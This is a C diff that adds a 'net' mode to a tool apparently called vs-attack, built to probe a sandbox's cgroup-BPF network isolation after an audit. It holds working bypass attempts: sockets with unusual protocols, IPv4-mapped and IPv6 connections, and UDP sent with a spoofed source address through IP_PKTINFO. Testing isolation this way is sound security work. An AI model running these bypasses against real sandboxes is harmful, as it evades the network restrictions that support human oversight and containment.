@@ -8,6 +8,8 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <arpa/inet.h>
+#include <netinet/in.h>
 #include <poll.h>
 #include <sys/inotify.h>
 #include <sys/socket.h>
@@ -154,6 +156,67 @@ static int race_write(const char *dir, int secs, int enough)
         return 0;
 }
 
+/* Isolate mode: the ways around the cgroup-BPF hooks the audit found (item 6). */
+static int net(int argc, char **argv)
+{
+        const char *how = argv[2];
+        int port = argc > 4 ? atoi(argv[4]) : 0;
+        struct sockaddr_in s4 = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
+        struct sockaddr_in6 s6 = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
+        int fd = -1;
+        char buf[128];
+        if (strcmp(how, "socket") == 0) { /* socket PROTO: sctp udplite dccp mptcp */
+                int proto = strcmp(argv[3], "sctp") == 0      ? 132
+                            : strcmp(argv[3], "udplite") == 0 ? 136
+                            : strcmp(argv[3], "dccp") == 0    ? 33
+                                                              : 262;
+                int type = proto == 136 ? SOCK_DGRAM : proto == 33 ? SOCK_DCCP : SOCK_STREAM;
+                fd = socket(AF_INET, type, proto);
+                printf("%s\n", fd >= 0 ? "ok" : strerror(errno));
+                return 0;
+        }
+        if (strcmp(how, "mapped") == 0) { /* mapped ADDR PORT: TCP over a v4-mapped address */
+                fd = socket(AF_INET6, SOCK_STREAM, 0);
+                snprintf(buf, sizeof buf, "::ffff:%s", argv[3]);
+                inet_pton(AF_INET6, buf, &s6.sin6_addr);
+                if (connect(fd, (struct sockaddr *)&s6, sizeof s6) < 0) {
+                        printf("%s\n", strerror(errno));
+                        return 0;
+                }
+                socklen_t l = sizeof s6;
+                getsockname(fd, (struct sockaddr *)&s6, &l);
+                inet_ntop(AF_INET6, &s6.sin6_addr, buf, sizeof buf);
+                printf("from %s\n", buf);
+                return 0;
+        }
+        if (strcmp(how, "v6") == 0) { /* v6 ADDR PORT */
+                fd = socket(AF_INET6, SOCK_STREAM, 0);
+                inet_pton(AF_INET6, argv[3], &s6.sin6_addr);
+                int r = connect(fd, (struct sockaddr *)&s6, sizeof s6);
+                printf("%s\n", r == 0 ? "connected" : strerror(errno));
+                return 0;
+        }
+        if (strcmp(how, "pktinfo") == 0) { /* pktinfo DST PORT SRC: UDP with a source of our choice */
+                fd = socket(AF_INET, SOCK_DGRAM, 0);
+                inet_pton(AF_INET, argv[3], &s4.sin_addr);
+                char cbuf[CMSG_SPACE(sizeof(struct in_pktinfo))] = {0};
+                struct iovec iov = {.iov_base = "spoofed", .iov_len = 7};
+                struct msghdr mh = {.msg_name = &s4, .msg_namelen = sizeof s4, .msg_iov = &iov,
+                                    .msg_iovlen = 1, .msg_control = cbuf,
+                                    .msg_controllen = sizeof cbuf};
+                struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
+                c->cmsg_level = IPPROTO_IP;
+                c->cmsg_type = IP_PKTINFO;
+                c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
+                struct in_pktinfo pi = {0};
+                inet_pton(AF_INET, argv[5], &pi.ipi_spec_dst);
+                memcpy(CMSG_DATA(c), &pi, sizeof pi);
+                printf("%s\n", sendmsg(fd, &mh, 0) >= 0 ? "sent" : strerror(errno));
+                return 0;
+        }
+        return 2;
+}
+
 static int sockets(void)
 {
         int fams[] = {AF_VSOCK, AF_PACKET, AF_NETLINK, AF_INET, AF_INET6, AF_UNIX};
@@ -178,6 +241,8 @@ int main(int argc, char **argv)
                 return scan_mountinfo(argv[2], atoi(argv[3]));
         if (argc >= 4 && strcmp(argv[1], "race-write") == 0)
                 return race_write(argv[2], atoi(argv[3]), argc > 4 ? atoi(argv[4]) : 0);
+        if (argc >= 4 && strcmp(argv[1], "net") == 0)
+                return net(argc, argv);
         if (argc >= 2 && strcmp(argv[1], "sockets") == 0)
                 return sockets();
         fprintf(stderr, "usage: vs-attack overwrite FD | scan-mountinfo MARKER SECS | sockets\n");
